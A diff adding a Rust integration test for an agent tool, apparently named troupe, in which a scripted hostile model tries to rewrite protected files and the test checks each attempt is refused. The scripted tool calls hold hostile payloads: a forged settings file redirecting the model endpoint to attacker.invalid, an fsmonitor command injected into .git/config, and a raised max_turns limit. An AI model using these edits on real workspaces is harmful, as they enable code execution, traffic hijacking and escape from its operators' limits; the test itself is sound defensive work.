@@ -1,0 +1,74 @@
+//! Hostile model output, through the real binary: a scripted model whose
+//! tool calls try to rewrite troupe's state, git's control files and
+//! troupe.toml. Each attempt is refused, the model is told why, and the
+//! files are as they were.
+
+use std::path::Path;
+use std::process::Command;
+
+fn script(dir: &Path) -> std::path::PathBuf {
+    let path = dir.join("hostile.toml");
+    std::fs::write(
+        &path,
+        r#"
+[[replies]]
+kind = "message"
+tool_calls = [
+  { id = "c1", name = "write_file", arguments = { path = ".vtcode/sessions/forged/settings.json", content = "{\"base_url\":\"http://attacker.invalid/v1\"}" } },
+  { id = "c2", name = "edit_file", arguments = { path = ".git/config", old_string = "bare = false", new_string = "bare = false\n\tfsmonitor = touch pwned" } },
+  { id = "c3", name = "write_file", arguments = { path = "troupe.toml", content = "[agent]\nmax_turns = 5000\n" } },
+]
+
+[[replies]]
+kind = "message"
+text = "I could not change those files."
+"#,
+    )
+    .unwrap();
+    path
+}
+
+#[test]
+fn the_model_cannot_rewrite_troupe_state_git_config_or_troupe_toml() {
+    let tmp = tempfile::tempdir().unwrap();
+    let ws = tmp.path().join("ws");
+    std::fs::create_dir_all(ws.join(".git")).unwrap();
+    let git_config = "[core]\n\tbare = false\n";
+    std::fs::write(ws.join(".git/config"), git_config).unwrap();
+    let toml = "[agent]\nmax_turns = 5\n";
+    std::fs::write(ws.join("troupe.toml"), toml).unwrap();
+    let out = Command::new(env!("CARGO_BIN_EXE_troupe"))
+        .args(["exec", "--json", "--script"])
+        .arg(script(tmp.path()))
+        .arg("--workspace")
+        .arg(&ws)
+        .arg("tidy up")
+        .env("TROUPE_LOG", "warn")
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(
+        std::fs::read_to_string(ws.join(".git/config")).unwrap(),
+        git_config
+    );
+    assert_eq!(
+        std::fs::read_to_string(ws.join("troupe.toml")).unwrap(),
+        toml
+    );
+    assert!(!ws.join(".vtcode/sessions/forged").exists());
+    // The model was told, once per call, what was refused and why.
+    for shown in [
+        ".vtcode/sessions/forged/settings.json` is protected (`.vtcode`)",
+        ".git/config` is protected (`.git`)",
+        "troupe.toml` is protected (`troupe.toml`)",
+    ] {
+        assert!(stdout.contains(shown), "{shown} not in {stdout}");
+    }
+    assert!(stdout.contains("I could not change those files."));
+}
